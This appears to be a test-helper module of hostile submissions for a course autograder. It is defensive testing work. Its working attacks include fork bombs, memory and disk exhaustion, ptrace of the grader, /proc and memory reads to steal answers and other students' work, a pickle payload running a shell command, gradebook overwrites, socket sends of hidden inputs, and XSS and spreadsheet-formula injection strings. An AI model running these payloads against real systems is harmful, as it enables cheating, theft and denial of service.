"""Hostile submissions for the grader's tests: what somebody might hand in who wants points, or harm.

Each is written as if it could work: an attack that finds an answer returns it, one that reaches a file changes it.
Everything is bounded, so that a grader that fails to stop it loses a test and not the machine.
"""

import json
import os
import textwrap
from pathlib import Path
from string import Template
from typing import NamedTuple

from grading_corpus import ANSWERS, IMPORTS, PCA, START, hand_in, notebook_json, solved, student_cells


class Place(NamedTuple):
    """Where a run takes place, as the attacker knows it: absolute paths, a port that listens, the grader's process."""

    submissions: Path
    out: Path
    host: Path  # a folder of the instructor's, with a file `treasure`
    checkout: Path
    port: int
    pid: int


class Attack(NamedTuple):
    """content(place) to hand in, cells or text or bytes; what must come of it: the report's kind and words of it."""

    content: object
    kind: str = ""  # "" means any but "passed"; "not graded" that no exercise comes to be judged
    words: str = ""  # what advice, detail or (where it is not graded) status must say
    notebook: str = START


ATTACKS: dict[str, Attack] = {}


def function(body, kind="", words="", before="", cells=()):
    """An attack from inside the answer of notebook 00. `FIND` in the body stands for a search through `candidates`."""

    def content(place):
        code = Template(textwrap.dedent(body)).safe_substitute(
            {
                "SUBMISSIONS": place.submissions,
                "OUT": place.out,
                "HOST": place.host,
                "CHECKOUT": place.checkout,
                "PORT": place.port,
                "PID": place.pid,
                "START": START,
            }
        )
        return [
            IMPORTS,
            HELPERS,
            *([before] if before else []),
            "def log_mean_exp(a):\n" + textwrap.indent(code.strip("\n"), "    "),
            *cells,
            "log_mean_exp = check(log_mean_exp)",
        ]

    return Attack(content, kind, words=words)


HELPERS = '''
import ctypes, gc, importlib, inspect, os, pathlib, signal, socket, struct, sys, threading, time
def attempt(f, *args, **kwargs):
    """f(*args), or None where it fails in any way."""
    try:
        return f(*args, **kwargs)
    except BaseException:
        return None
def steal(text):
    """A function log_mean_exp out of any text that defines it: a module, or a notebook's JSON."""
    import json
    sources = [text]
    try:
        sources = ["".join(cell["source"]) for cell in json.loads(text)["cells"]]
    except Exception:
        pass
    for source in sources:
        if "def log_mean_exp" in source:
            space = {"np": np}
            attempt(exec, source, space)
            if callable(space.get("log_mean_exp")):
                return space["log_mean_exp"]
def use(candidates, a):
    """The first number that one of the functions gives for a."""
    for f in candidates:
        value = attempt(f, a) if callable(f) else None
        if isinstance(value, (float, np.floating, np.ndarray)):
            return value
    return 0.0
def frame(header, body=b"", magic=b"cw01", n=None):
    """A frame as the grader's wire has them."""
    import json
    header = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack(">4sQQ", magic, len(header), len(body) if n is None else n) + header + body
def pipes():
    """Descriptors of this process that can be written to."""
    return [d for d in range(3, 64) if attempt(os.write, d, b"") is not None]
'''


def attacks_on_the_comparison():
    yield (
        "patched-numpy",
        function(
            """
        for module in (np, np.testing, np.linalg, anp):
            for name in ("allclose", "array_equal", "isclose", "isfinite", "abs", "assert_allclose", "asarray",
                         "array"):
                if hasattr(module, name):
                    setattr(module, name, lambda *a, **k: True)
        return 0.0
        """
        ),
    )
    yield (
        "patched-builtins",
        function(
            """
        import builtins
        builtins.AssertionError = builtins.Exception = type("Never", (BaseException,), {})
        builtins.all = builtins.any = builtins.abs = builtins.isinstance = lambda *a: True
        return 0.0
        """
        ),
    )
    yield (
        "patched-reply",
        function(
            """
        import course_utils.checking.calling as calling, course_utils.checking.wire as wire
        passed = {"passed": True, "points": 1, "max_points": 1, "kind": "passed", "value": 0.0, "changed": False}
        calling.perform = calling.outcome_of = lambda *a: passed
        wire.encode = lambda value: frame({"t": "dict", "k": ["value"], "v": [{"t": "float", "v": "0.0"}]})
        return 0.0
        """
        ),
    )
    yield (
        "equals-everything",
        function(
            """
        class Equal(np.ndarray):
            __eq__ = __ne__ = __le__ = __lt__ = __ge__ = __gt__ = lambda self, other: np.array(True)
            __sub__ = __rsub__ = __abs__ = lambda self, *other: np.zeros(())
            def __array_ufunc__(self, *a, **k): return np.array(True)
            def __array_function__(self, *a, **k): return True
        return np.zeros(()).view(Equal)
        """,
            "values",
        ),
    )
    yield (
        "lazy-array",
        function(
            """
        class Lazy:
            def __array__(self, *a, **k):
                for f in inspect.stack():
                    for name in ("expected", "oracle", "answer", "result"):
                        if name in f.frame.f_locals and isinstance(f.frame.f_locals[name], np.ndarray):
                            return f.frame.f_locals[name]
                return np.zeros(())
        return Lazy()
        """
        ),
    )
    yield (
        "lazy-endless",
        function(
            """
        class Lazy:
            def __array__(self, *a, **k):
                while True: pass
        return Lazy()
        """,
            "timeout",
        ),
    )
    yield (
        "array-that-raises",
        function(
            """
        class Odd:
            def __getattribute__(self, name): raise SystemExit(0)
        return Odd()
        """
        ),
    )
    yield (
        "chameleon-float",
        function(
            """
        class Chameleon(float):
            __eq__ = lambda self, other: True
            __sub__ = __rsub__ = __abs__ = __mul__ = lambda self, *other: 0.0
            __hash__ = float.__hash__
        return Chameleon(0)
        """
        ),
    )
    yield "nan", function("return float('nan')", "not finite")
    yield "infinite", function("return np.inf", "not finite")
    yield "masked", function("return np.ma.masked")
    yield "object-array", function("return np.array([log_mean_exp], dtype=object)")
    yield "structured-array", function("return np.zeros((), dtype=[('f', 'f8')])")
    yield "huge-integer", function("return 10 ** 4000")
    yield "wide-broadcast", function("return np.broadcast_to(np.zeros(()), (2 ** 20, 2 ** 20))")
    yield (
        "answers-with-html",
        function(
            """
        raise type("<script>alert(1)</script>", (Exception,), {})(
            "<img src=x onerror=alert(1)> </pre><script>1</script>")
        """,
            "raised",
        ),
    )
    yield (
        "type-with-html",
        function(
            """
        return type("<script>alert(1)</script>", (), {})()
        """,
            "type",
        ),
    )
    yield (
        "keys-with-html",
        function(
            """
        return {"<script>alert(1)</script>" * 1000: 1, "\\u202egnp.exe": 2}
        """
        ),
    )
    yield "giant-message", function("raise ValueError('x' * 100_000_000)", "raised")
    yield "giant-type-name", function("return type('x' * 50_000_000, (), {})()", "type")


def attacks_on_the_pipe():
    yield (
        "forged-frame",
        function(
            """
        for reply in ({"t": "dict", "k": ["passed", "points"], "v": [{"t": "bool", "v": True}, {"t": "int", "v": 1}]},
                      {"t": "dict", "k": ["value"], "v": [{"t": "float", "v": "0.0"}]}):
            for pipe in pipes():
                attempt(os.write, pipe, frame(reply))
        return 0.0
        """
        ),
    )
    yield (
        "oversized-frame",
        function(
            """
        for pipe in pipes():
            attempt(os.write, pipe, struct.pack(">4sQQ", b"cw01", 2 ** 62, 2 ** 62))
        time.sleep(60)
        """,
            "type",
            "cannot be read",
        ),
    )
    yield (
        "largest-frame",
        function(
            """
        body = bytes(1 << 20)
        for pipe in pipes():
            attempt(os.write, pipe, frame({"t": "array", "dtype": "<f8", "shape": [1 << 25]}, n=1 << 28))
            for _ in range(256):
                if attempt(os.write, pipe, body) is None: break
        os._exit(0)
        """
        ),
    )
    yield (
        "torn-frame",
        function(
            """
        for pipe in pipes():
            attempt(os.write, pipe, frame({"t": "float", "v": "0.0"})[:-3])
        os._exit(0)
        """,
            "died",
        ),
    )
    yield (
        "slow-frame",
        function(
            """
        for byte in frame({"t": "float", "v": "0." + "0" * 100_000}):
            for pipe in pipes():
                attempt(os.write, pipe, bytes([byte]))
            time.sleep(0.05)
        """,
            "timeout",
        ),
    )
    yield (
        "endless-frames",
        function(
            """
        while True:
            for pipe in pipes():
                os.write(pipe, frame({"t": "none"}) * 1000)
        """
        ),
    )
    for name, node in {
        "lying-shape": {"t": "array", "dtype": "<f8", "shape": [2**40, 2**40]},
        "long-shape": {"t": "array", "dtype": "<f8", "shape": [2**50, 0]},
        "negative-shape": {"t": "array", "dtype": "<f8", "shape": [-1]},
        "empty-shape": {"t": "array", "dtype": "<f8", "shape": [0, 2**62]},
        "boolean-shape": {"t": "array", "dtype": "<f8", "shape": [True]},
        "no-shape": {"t": "array", "dtype": "<f8", "shape": "11"},
        "object-reply": {"t": "array", "dtype": "|O8", "shape": [1]},
        "void-reply": {"t": "array", "dtype": "V999999999", "shape": []},
        "named-reply": {"t": "named", "v": "os:abort"},
        "generator-reply": {"t": "rng", "v": 1},
        "odd-float": {"t": "float", "v": "1" * 100_000},
        "unknown-reply": {"t": "__import__('os').abort()"},
        "no-node": [1, 2, 3],
    }.items():
        reply = {"t": "dict", "k": ["value"], "v": [node]}
        yield (
            name,
            function(
                f"""
            for pipe in pipes():
                attempt(os.write, pipe, frame({reply!r}, bytes(8)))
            time.sleep(60)
            """
            ),
        )
    yield (
        "deep-reply",
        function(
            """
        for pipe in pipes():
            attempt(os.write, pipe, frame(b'{"t":"list","v":[' * 100_000))
        time.sleep(60)
        """,
            "type",
            "cannot be read",
        ),
    )
    yield (
        "pickled-reply",
        function(
            """
        import pickle
        class Boom:
            def __reduce__(self): return os.system, ("touch $HOST/pwned",)
        for pipe in pipes():
            attempt(os.write, pipe, pickle.dumps(Boom()) + frame({"t": "none"}))
        time.sleep(60)
        """,
            "type",
            "cannot be read",
        ),
    )


def attacks_on_the_process():
    yield "exit-in-a-cell", Attack(lambda place: [IMPORTS, "import os\nos._exit(0)\ndef log_mean_exp(a): return 0"], "")
    yield "exit-in-the-answer", function("os._exit(0)", "died")
    yield "system-exit", function("sys.exit(0)", "raised")
    yield "keyboard-interrupt", function("raise KeyboardInterrupt", "raised")
    yield "generator-exit", function("raise GeneratorExit", "raised")
    yield "crash", function("ctypes.string_at(0)", "died")
    yield (
        "stack-overflow",
        function(
            """
        sys.setrecursionlimit(10 ** 9)
        deep = lambda n: deep(n + 1)
        deep(0)
        """
        ),
    )
    yield "endless", function("while True: pass", "timeout")
    yield (
        "endless-and-stubborn",
        function(
            """
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        while True:
            try:
                while True: pass
            except BaseException: pass
        """,
            "timeout",
        ),
    )
    yield (
        "endless-cell",
        Attack(
            lambda place: [
                IMPORTS,
                "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\ndef log_mean_exp(a): return 0\n",
                (
                    "while True:\n    try:\n        log_mean_exp = log_mean_exp\n        while True: pass\n    except"
                    " BaseException: pass"
                ),
            ],
            "timeout",
        ),
    )
    yield "sleeping", function("time.sleep(10_000)", "timeout")
    yield "stopped", function("os.kill(os.getpid(), signal.SIGSTOP)", "timeout")
    yield (
        "signals",
        function(
            """
        for pid in (os.getppid(), -1, 1, $PID, -$PID, 0):
            for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
                if pid not in (0, -1) or os.getpid() < 1000:  # outside a sandbox, these would hit the test itself
                    attempt(os.kill, pid, number)
        os._exit(0)
        """
        ),
    )
    yield "stops-the-server", function("os.kill(os.getppid(), signal.SIGSTOP)\nreturn 0.0")
    yield (
        "traces-the-server",
        function(
            """
        libc = ctypes.CDLL(None, use_errno=True)
        parent = os.getppid()
        traced = libc.ptrace(16, parent, 0, 0) == 0
        wrote = 0
        for line in attempt(lambda: open(f"/proc/{parent}/maps").read().splitlines()) or []:
            if " rw-p " in line:
                start, end = (int(x, 16) for x in line.split()[0].split("-"))
                wrote += attempt(lambda: os.pwrite(memory, bytes(end - start), start)) or 0 if (memory := attempt(
                    os.open, f"/proc/{parent}/mem", os.O_RDWR)) else 0
        raise ValueError("alarm" if traced or wrote else "refused")
        """,
            "raised",
            "refused",
        ),
    )
    yield "memory-8-GB", function("return np.ones(8 << 30, np.uint8)", "raised", "MemoryError")
    yield (
        "memory-in-steps",
        function(
            """
        kept = []
        while True: kept.append(np.empty(1 << 28, np.uint8))
        """,
            "raised",
            "MemoryError",
        ),
    )
    yield (
        "memory-of-many",
        function(
            """
        for _ in range(16):
            if os.fork() == 0:
                kept = np.ones(150 << 20, np.uint8)
                time.sleep(60)
                os._exit(0)
        time.sleep(60)
        """
        ),
    )
    yield (
        "memory-in-files",
        function(
            """
        kept = [os.memfd_create(str(i)) for i in range(12)]
        for d in kept: os.write(d, bytes(32 << 20))
        raise ValueError("alarm")
        """,
            "raised",
            "Operation not permitted",
        ),
    )
    yield (
        "shared-memory",
        function(
            """
        libc = ctypes.CDLL(None, use_errno=True)
        raise ValueError("alarm" if libc.shmget(0, 1 << 28, 0o1600) >= 0 else "refused")
        """,
            "raised",
            "refused",
        ),
    )
    yield (
        "fork-bomb",
        function(
            """
        for _ in range(400):
            if os.fork() == 0:
                try:
                    deadline = time.time() + 60
                    while time.time() < deadline: attempt(os.fork)
                finally:
                    os._exit(0)
        raise ValueError("alarm")
        """
        ),
    )
    yield (
        "thread-bomb",
        function(
            """
        for _ in range(2000): threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        raise ValueError("alarm")
        """,
            "raised",
            "RuntimeError",
        ),
    )
    yield (
        "leaves-a-daemon",
        function(
            """
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                deadline = time.time() + 120
                while time.time() < deadline:
                    attempt(open("$HOST/daemon", "a").write, "alive")
                    time.sleep(0.1)
            os._exit(0)
        return 0.0
        """,
            "",
        ),
    )  # wrong values; on a busy machine the fork itself may be refused
    yield (
        "disk",
        function(
            """
        for i in range(30):
            with open(f"fill{i}", "wb") as file: file.write(bytes(16 << 20))
        raise ValueError("alarm")
        """,
            "raised",
            "No space left",
        ),
    )
    yield (
        "large-file",
        function(
            """
        with open("large", "wb") as file:
            for _ in range(100): file.write(bytes(4 << 20))
        raise ValueError("alarm")
        """,
            "raised",
            "OSError",
        ),
    )
    yield (
        "disk-elsewhere",
        function(
            """
        found = []
        root = pathlib.Path("/")
        roots = [root, *root.glob("*"), *root.glob("[a-oq-s]*/*"), *map(pathlib.Path, sys.path)]
        for folder in roots:
            if str(folder) != "/tmp" and attempt(pathlib.Path(folder, ".x").write_bytes, b"x"):
                found.append(folder)
        raise ValueError(f"alarm {found[:5]}" if found else "refused")
        """,
            "raised",
            "refused",
        ),
    )
    yield (
        "many-files",
        function(
            """
        for i in range(5_000): open(f"f{i}", "w").close()
        return 0.0
        """,
            "values",
        ),
    )
    yield "open-files", function("kept = [open('/dev/null') for _ in range(100_000)]", "raised", "OSError")
    yield (
        "deep-folders",
        function(
            """
        for _ in range(5000):
            os.mkdir("d")
            os.chdir("d")
        return 0.0
        """
        ),
    )
    yield (
        "unreadable-folders",
        function(
            """
        os.makedirs("a/b/c")
        os.chmod("a/b", 0)
        os.chmod(".", 0)
        return 0.0
        """,
            "values",
        ),
    )
    yield (
        "giant-output",
        function(
            """
        for _ in range(300):
            print("x" * 1_000_000)
            os.write(1, b"y" * 1_000_000)
            os.write(2, b"z" * 1_000_000)
        return 0.0
        """,
            "values",
        ),
    )
    yield (
        "user-namespace",
        function(
            """
        libc = ctypes.CDLL(None, use_errno=True)
        raise ValueError("alarm" if libc.unshare(0x10000000) == 0 or os.geteuid() == 0 else "refused")
        """,
            "raised",
            "refused",
        ),
    )
    yield (
        "mounts",
        function(
            """
        libc = ctypes.CDLL(None, use_errno=True)
        done = [libc.mount(b"none", b"/tmp", b"tmpfs", 0, None), libc.umount2(b"/course", 2),
                libc.chroot(b"/proc/1/root")]
        raise ValueError("alarm" if 0 in done else "refused")
        """,
            "raised",
            "refused",
        ),
    )


def attacks_on_secrets():
    yield (
        "frames",
        function(
            """
        found, f = [], sys._getframe()
        while f:
            found += [*f.f_locals.values(), *f.f_globals.values()]
            f = f.f_back
        found += [getattr(x, n) for x in found for n in ("oracle", "answer", "expected") if hasattr(type(x), n)]
        return use([f for f in found if getattr(f, "__name__", "") not in ("log_mean_exp", "use")
                    and getattr(f, "__module__", "").startswith("course")], a)
        """
        ),
    )
    yield (
        "gc",
        function(
            """
        import types
        found = [o for o in gc.get_objects() if isinstance(o, types.FunctionType) and o is not log_mean_exp
                 and ("log_mean" in o.__qualname__ or "exercises" in (o.__module__ or ""))]
        return use(found, a)
        """
        ),
    )
    yield (
        "proc",
        function(
            """
        found = []
        for path in pathlib.Path("/proc").glob("[0-9]*"):
            for name in ("environ", "cmdline"):
                found.append(attempt((path / name).read_bytes) or b"")
            for link in attempt(lambda: list((path / "fd").iterdir())) or []:
                found.append((attempt(link.read_bytes) or b"") if attempt(link.is_file) else b"")
            for root in (path / "root", path / "cwd"):
                for file in ("$CHECKOUT/course_utils/probability/numerics.py", "$SUBMISSIONS/honest/$START.ipynb"):
                    found.append(attempt(pathlib.Path(f"{root}{file}").read_bytes) or b"")
        return use([steal(text.decode(errors="replace")) for text in found], a)
        """
        ),
    )
    yield (
        "memory-of-others",
        function(
            """
        for path in pathlib.Path("/proc").glob("[0-9]*"):
            if path.name == str(os.getpid()): continue
            for line in (attempt((path / "maps").read_text) or "").splitlines():
                start, end = (int(x, 16) for x in line.split()[0].split("-"))
                with attempt(open, path / "mem", "rb", 0) or open(os.devnull, "rb") as memory:
                    if attempt(memory.seek, start) is not None and attempt(memory.read, 64):
                        raise ValueError("alarm")
        raise ValueError("refused")
        """,
            "raised",
            "refused",
        ),
    )
    yield (
        "getattr",
        function(
            """
        import course_utils.probability.numerics as n
        return getattr(n, "log_" + "mean_exp")(a)
        """,
            "hidden",
        ),
    )
    yield (
        "importlib",
        function(
            """
        module = importlib.reload(importlib.import_module("course_utils.probability.numerics"))
        return module.__dict__["log_mean_exp"](a)
        """,
            "hidden",
        ),
    )
    yield (
        "through-check",
        function(
            """
        checking = importlib.import_module("course_utils.checking")
        checking.replacements["log_mean_exp"] = "course_utils.probability.numerics:log_mean_exp"
        return checking.check(log_mean_exp)(a)
        """,
            "hidden",
        ),
    )
    yield (
        "copied-file",
        function(
            """
        import course_utils.probability.numerics as n
        found = [steal(open(n.__file__).read()), steal(attempt(inspect.getsource, n) or "")]
        return use(found, a)
        """
        ),
    )
    yield (
        "byte-code",
        function(
            """
        import marshal, types
        for file in pathlib.Path("/").rglob("numerics*.pyc"):
            code = attempt(marshal.loads, file.read_bytes()[16:])
            for const in code.co_consts if code else ():
                if getattr(const, "co_name", "") == "log_mean_exp":
                    f = types.FunctionType(const, {"np": np, "__builtins__": __builtins__})
                    value = use([f], a)
                    if value: return value
        return 0.0
        """
        ),
    )
    yield (
        "library-elsewhere",
        function(
            """
        found = []
        parents = (str(pathlib.Path(p).parent) for p in sys.path)
        for root in {*sys.path, *parents, "$CHECKOUT", "/usr", "/root", "/home"}:
            for folder, _, files in os.walk(root):
                if "course" in folder or "solutions" in folder:
                    found += [steal(attempt(pathlib.Path(folder, f).read_text) or "") for f in files
                              if f.endswith((".py", ".ipynb"))]
        return use(found, a)
        """
        ),
    )
    yield (
        "checkout",
        function(
            """
        found = [attempt(pathlib.Path("$CHECKOUT", f).read_text) or "" for f in
                 ("course_utils/probability/numerics.py", "solutions/$START.py", "solutions/$START.ipynb",
                  "tests/helpers/grading_corpus.py")]
        for text in found:
            if 'return m + np.log(np.mean(np.exp(a - m)))' in text:
                return np.max(a) + np.log(np.mean(np.exp(a - np.max(a))))
        return use(map(steal, found), a)
        """
        ),
    )
    yield (
        "other-students",
        function(
            """
        found = [attempt(pathlib.Path(path).read_text) or "" for path in
                 ("$SUBMISSIONS/honest/$START.ipynb", "../honest/$START.ipynb", "$OUT/results/honest/$START.json")]
        return use(map(steal, found), a)
        """
        ),
    )
    yield (
        "others-in-the-temporary-folder",
        function(
            """
        import tempfile
        pathlib.Path(tempfile.gettempdir(), "shared.py").write_text("x")
        for root in ("/tmp", "/var/tmp", "/dev/shm", os.path.dirname(os.getcwd())):
            attempt(pathlib.Path(root, "left-for-friends").write_text, "x")
        names = {name for root in ("/tmp", "/var/tmp") for name in attempt(os.listdir, root) or []}
        raise ValueError("alarm" if any("course-grade" in n or "pytest" in n for n in names) else "refused")
        """,
            "raised",
            "refused",
        ),
    )
    yield (
        "gradebook",
        function(
            """
        for path in ("$OUT/grades.csv", "$OUT/seed.json", "$OUT/results/gradebook/$START.json",
                     "$OUT/feedback/honest/$START.html", "$SUBMISSIONS/honest/$START.ipynb", "$HOST/treasure"):
            attempt(pathlib.Path(path).write_text, '{"points": 100}')
            attempt(os.unlink, path)
        return 0.0
        """,
            "values",
        ),
    )
    yield (
        "graders-files",
        function(
            """
        import course_utils, course_utils.checking.calling
        changed = []
        for root in {os.path.dirname(course_utils.__file__), os.path.dirname(np.__file__), "$CHECKOUT/course_utils"}:
            for name in ("checking/calling.py", "checking/__init__.py", "checking/judging.py", "version.py"):
                path = pathlib.Path(root, name)
                if path.exists():
                    attempt(path.chmod, 0o777)
                    if attempt(lambda: open(path, "r+b").close() or 1): changed.append(name)
        raise ValueError(f"alarm {changed}" if changed else "refused")
        """,
            "raised",
            "refused",
        ),
    )
    yield (
        "network",
        function(
            """
        for address in (("127.0.0.1", $PORT), ("localhost", $PORT), ("::1", $PORT), ("1.1.1.1", 53)):
            link = attempt(socket.create_connection, address, timeout=1)
            if link:
                attempt(link.sendall, repr(a).encode())
                raise ValueError("alarm")
        link = socket.socket(socket.AF_UNIX)
        if attempt(link.connect, "\\0course-hostile-$PORT") is None: pass
        attempt(link.sendall, b"hidden inputs")
        raise ValueError("refused")
        """,
            "raised",
            "refused",
        ),
    )
    yield (
        "detects-grading",
        function(
            """
        graded = "ipykernel" not in sys.modules or "course_utils.grading.child" in sys.modules
        if graded:
            child = sys.modules.get("course_utils.grading.child")
            found = [getattr(child, n, None) for n in dir(child)] + [
                attempt(lambda n=n: importlib.import_module(n)) for n in (
                    "course_utils.exercises", "course_utils.checking.judging", "course_utils.grading.scoring",
                    "course_utils.building.build")]
            modules = [m for m in found if inspect.ismodule(m)]
            f = [attempt(lambda m=m: m.all_exercises()["log_mean_exp"].oracle) for m in modules]
            return use(f, a)
        return 0.0
        """
        ),
    )
    yield (
        "shell",
        Attack(
            lambda place: [
                f"{IMPORTS}\n!touch {place.host}/pwned\nfiles = !ls {place.host}",
                f"%%bash\ntouch {place.host}/pwned",
                f"%%script sh\ntouch {place.host}/pwned",
                f"get_ipython().system('touch {place.host}/pwned')",
                "def log_mean_exp(a):\n    import os, subprocess\n    os.system('touch "
                + str(place.host)
                + "/pwned')\n    return 0.0",
            ],
            "values",
        ),
    )


def attacks_on_the_notebook():
    answer = "def log_mean_exp(a):\n    return 0.0"

    def with_metadata(place):
        notebook = json.loads(notebook_json([IMPORTS, answer, "log_mean_exp = check(log_mean_exp)"]))
        for cell in notebook["cells"]:
            cell["metadata"] = {
                "nbgrader": {
                    "grade": True,
                    "points": 1000,
                    "grade_id": "log_mean_exp",
                    "locked": False,
                    "solution": False,
                    "schema_version": 3,
                    "score": 1000,
                }
            }
            cell["id"] = "log_mean_exp"
        notebook["metadata"] = {"course": {"notebook": START, "points": 1000}, "points": 1000}
        return json.dumps(notebook)

    def with_outputs(place):
        notebook = json.loads(notebook_json([IMPORTS, answer]))
        script = "<script>alert(1)</script>"
        notebook["cells"][1]["outputs"] = [
            {
                "output_type": "display_data",
                "metadata": {},
                "data": {
                    "text/html": [script],
                    "text/plain": [f"✓ log_mean_exp: 1 of 1 point {script}"],
                    "application/javascript": ["alert(1)"],
                },
            }
        ] * 100
        return json.dumps(notebook)

    yield "cells-deleted", Attack(lambda place: [IMPORTS, "log_mean_exp = check(log_mean_exp)"], "missing")
    yield "cells-duplicated", Attack(lambda place: [*solved(START), answer], "values")
    yield (
        "checks-edited",
        Attack(
            lambda place: [
                IMPORTS,
                answer,
                "def check(*a, **k): return type('Passed', (), {'points': 1, 'passed': True})()",
                "assert True\nprint('✓ log_mean_exp: 1 of 1 point')",
                "points = score = 1000",
            ],
            "values",
        ),
    )
    yield (
        "cells-added",
        Attack(
            lambda place: [
                IMPORTS,
                answer,
                "### BEGIN HIDDEN TESTS\nassert True\n### END HIDDEN TESTS",
                "import unittest\nunittest.main = print",
                "class log_mean_exp:\n    passed, points = True, 1\n    def __new__(cls, a): return 0.0",
            ]
        ),
    )
    yield "name-reused", Attack(lambda place: [IMPORTS, answer, "log_mean_exp = 1"], "not callable")
    yield "points-and-ids", Attack(with_metadata, "values")
    yield "html-in-outputs", Attack(with_outputs, "values")
    yield (
        "magic-syntax-error",
        Attack(
            lambda place: [IMPORTS, "def log_mean_exp(a) <script>alert(1)</script>:\n  return"],
            "raised",
            words="not Python",
        ),
    )
    yield "source-with-nul", Attack(lambda place: [IMPORTS, "def log_mean_exp(a):\0 return 0"])
    yield "source-with-surrogates", Attack(lambda place: [IMPORTS, "def log_mean_exp(a):\n    return '\ud800'"])
    yield "nested-code", Attack(lambda place: [IMPORTS, "def log_mean_exp(a):\n    return " + "(" * 5000 + ")" * 5000])
    yield (
        "long-expression",
        Attack(lambda place: [IMPORTS, "def log_mean_exp(a):\n    return " + "+".join(["0"] * 90_000)]),
    )
    yield (
        "endless-to-read",
        Attack(
            lambda place: [
                IMPORTS,
                *(f"def f{i}():\n    global g{i}\n    g{i} = f{i + 1}()" for i in range(4900)),
                "def log_mean_exp(a): f0()",
            ],
            "not graded",
            words="error: the cells cannot be read (that took more than",
        ),
    )
    yield "many-magics", Attack(lambda place: [IMPORTS, answer + "\n" + "!x\n" * 30_000], "raised", words="not Python")
    yield "100-MB", Attack(lambda place: bytes(100 << 20), "not graded", words="damaged: larger than 32 MB")
    yield (
        "100,000-cells",
        Attack(
            lambda place: json.dumps(
                {
                    "metadata": {},
                    "nbformat": 4,
                    "nbformat_minor": 4,
                    "cells": (
                        [{"cell_type": "code", "metadata": {}, "source": "", "outputs": [], "execution_count": None}]
                        * 100_000
                    ),
                }
            ),
            "not graded",
            words="damaged: more than",
        ),
    )
    yield "deep-json", Attack(lambda place: "[" * 1_000_000, "not graded", words="damaged: the JSON is nested too deep")
    yield (
        "deep-metadata",
        Attack(
            lambda place: '{"cells": [], "metadata": ' + '{"a":' * 100_000 + "1" + "}" * 100_000 + "}",
            "not graded",
            words="damaged: the JSON is nested too deep",
        ),
    )
    yield (
        "doubled-keys",
        Attack(lambda place: '{"cells": 1, "cells": [], "nbformat": NaN}', "not graded", words="empty: no code"),
    )
    yield "no-json", Attack(lambda place: "<script>alert(1)</script>", "not graded", words="damaged: no JSON")
    yield "huge-number", Attack(lambda place: '{"cells": ' + "9" * 100_000 + "}", "not graded", words="damaged: ")
    yield "no-text", Attack(lambda place: bytes(range(256)) * 100, "not graded", words="damaged: ")
    for name in (
        "=HYPERLINK('x','y')",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1+1",
        "\r=1",
        "<script>alert(1)<",
        'a,b"c\nd',
        "..",
        "\u202eevil",
        "x" * 200,
        "results",
        "%s{0}$HOME`id`",
        "con",
        "﹦cmd|' C calc'!A0",
        "|cmd",
        ";=1+1",
        "a\x1b[2Jb",
    ):
        if name != "..":
            yield name, Attack(lambda place: [IMPORTS, answer], "values")


STOLEN = """
def pca_decode(z, mean, components):
    from pathlib import Path
    import course_utils.models.pca as pca, inspect, tempfile
    places = [Path("/tmp"), Path(tempfile.gettempdir()), Path.cwd(), Path.cwd().parent, Path("/dev/shm"),
              Path("/var/tmp")]
    for place in places:
        try:
            (place / "NAME").write_text(inspect.getsource(pca))
        except OSError:
            pass
    for place in places:
        for file in place.glob("stolen*"):
            space = {}
            try:
                exec(file.read_text(), space)
                return space["ANSWER"](*ARGS)
            except BaseException:
                pass
    return pca.OTHER"""


def stolen_from_the_second_pass(place):
    """Two answers that lean on each other: where one is asked alone, the other is the library's, and is carried off."""
    one = STOLEN.replace("NAME", "stolen1").replace("ANSWER", "pca_decode").replace("*ARGS", "z, mean, components")
    two = one.replace("pca_decode(z, mean, components)", "pca_encode(x, mean, components)").replace(
        "stolen1", "stolen2"
    )
    two = two.replace('"pca_decode"', '"pca_encode"').replace("(z, mean, components)", "(x, mean, components)")
    return student_cells(
        PCA,
        pca_decode=one.replace("OTHER", "pca_encode(z, mean, components)"),
        pca_encode=two.replace("OTHER", "pca_decode(x, mean, components)"),
    )


def attacks_on_other_exercises():
    yield "second-pass", Attack(stolen_from_the_second_pass, notebook=PCA)
    yield (
        "all-from-the-library",
        Attack(
            lambda place: [
                IMPORTS,
                (
                    "from course_utils.models.pca import *\nfrom course_utils.models import pca\n"
                    "from course_utils.networks import flat, optim, nets"
                ),
                *(
                    f"def {name}(*args):\n    return pca.{name}(*args)\n{name} = check({name})"
                    for name in ANSWERS
                    if name != "log_mean_exp"
                ),
            ],
            notebook=PCA,
        ),
    )


def odd_files(place):
    """What lies in a submission folder and is no notebook of the student's own; returns statuses by (student, name)."""
    root, start = place.submissions, f"{START}.ipynb"
    for student in ("link-to-honest", "link-to-folder", "fifo", "folder", "socket", "link-to-device", "link-loop"):
        (root / student).mkdir(parents=True)
    (root / "link-to-honest" / start).symlink_to(root / "honest" / start)
    (root / "link-to-folder" / START).symlink_to(root / "honest")
    os.mkfifo(root / "fifo" / start)
    (root / "folder" / start).mkdir()
    (root / "link-to-device" / start).symlink_to("/dev/zero")
    (root / "link-loop" / start).symlink_to(root / "link-loop" / start)
    (root / "linked-student").symlink_to(root / "honest")
    return {
        ("link-to-honest", START): "refused: a link that leads out",
        ("link-to-folder", START): "refused: a link to a",
        ("fifo", START): "damaged: it is no ordinary file",
        ("link-to-device", START): "refused: a link that leads out",
        ("link-loop", START): "refused: a link that leads nowhere",
        ("", "linked-student"): "refused: a link to a folder",
    }


def attacks_on_what_is_shared():
    """Of what all processes of a user, or of the machine, have one number together."""
    yield (
        "empty-files",
        function(
            """
        for i in range(200_000): os.symlink("x", f"l{i}")
        raise ValueError("alarm")
        """,
            "raised",
            "No space left",
        ),
    )
    yield (
        "empty-folders",
        function(
            """
        for i in range(200_000): os.mkdir(f"d{i}")
        raise ValueError("alarm")
        """,
            "raised",
            "No space left",
        ),
    )
    yield (
        "tcp-buffers",
        function(
            """
        server = socket.create_server(("127.0.0.1", 0))
        kept, held = [], 0
        for _ in range(100):
            kept.append(socket.create_connection(server.getsockname(), timeout=1))
            kept[-1].setblocking(False)
            try:
                while True: held += kept[-1].send(bytes(1 << 16))
            except OSError: pass
        raise ValueError(f"alarm {held}" if held > 100 << 20 else "refused")
        """,
            "raised",
            "refused",
        ),
    )
    for name, call in {
